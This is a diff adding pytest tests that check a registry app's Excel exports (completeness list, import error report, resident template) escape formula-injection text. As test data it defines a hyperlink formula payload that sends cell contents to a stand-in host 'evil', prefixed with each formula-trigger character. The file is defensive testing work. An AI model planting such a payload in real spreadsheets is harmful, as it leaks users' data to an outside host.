@@ -1,0 +1,62 @@
+"""The registry's workbooks carry user-supplied text (names, error messages that echo a
+sheet's cells) and must never hand it back as a live formula."""
+
+from __future__ import annotations
+
+import io
+
+import openpyxl
+import pytest
+from sqlalchemy.orm import Session
+
+from fengchao.registry import exports
+from fengchao.registry.importer import RowError
+from fengchao.registry.imports import ImportReport
+from fengchao.registry.models import Person
+from tests.conftest import Grid, Persona
+
+EVIL = 'HYPERLINK("http://evil/?"&A1,"click")'
+TRIGGERS = ["=", "+", "-", "@", "\t", "\r"]
+
+
+def shown(text: str) -> str:
+    """How a cell's text reads back: XML turns a carriage return into a line feed."""
+    return text.replace("\r", "\n")
+
+
+def cells(content: bytes) -> list[openpyxl.cell.cell.Cell]:
+    book = openpyxl.load_workbook(io.BytesIO(content), data_only=False)
+    return [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row]
+
+
+def test_completeness_workbook_has_no_formula(  # type: ignore[no-untyped-def]
+    login_as, session: Session, grid: Grid, worker: Persona
+) -> None:
+    names = [lead + EVIL for lead in TRIGGERS]
+    for name in names:  # no phone: each is listed among the items to fix
+        session.add(Person(community_id=grid.community.id, household_id=grid.h5_101.id, name=name))
+    session.flush()
+    export = login_as(worker).get("/registry/completeness.xlsx")
+    assert export.status_code == 200
+    written = cells(export.content)
+    assert all(cell.data_type != "f" for cell in written)
+    texts = {cell.value for cell in written}
+    for name in names:
+        assert shown("'" + name) in texts, name
+        assert shown(name) not in texts
+
+
+@pytest.mark.parametrize("lead", TRIGGERS)
+def test_error_report_has_no_formula(lead: str) -> None:
+    report = ImportReport(kind="residents", errors=[RowError(2, "name", lead + EVIL)])
+    written = cells(exports.error_report_xlsx(report))
+    assert all(cell.data_type != "f" for cell in written)
+    assert shown("'" + lead + EVIL) in {cell.value for cell in written}
+
+
+def test_template_still_keeps_id_columns_as_text() -> None:
+    book = openpyxl.load_workbook(io.BytesIO(exports.resident_template_xlsx()))
+    sheet = book["居民信息"]
+    assert sheet["A1"].value == "姓名" and sheet["A1"].font.b
+    assert sheet["C2"].value == "350102198001011234" and sheet["C4000"].number_format == "@"
+    assert book.sheetnames == ["居民信息", "填写说明"]
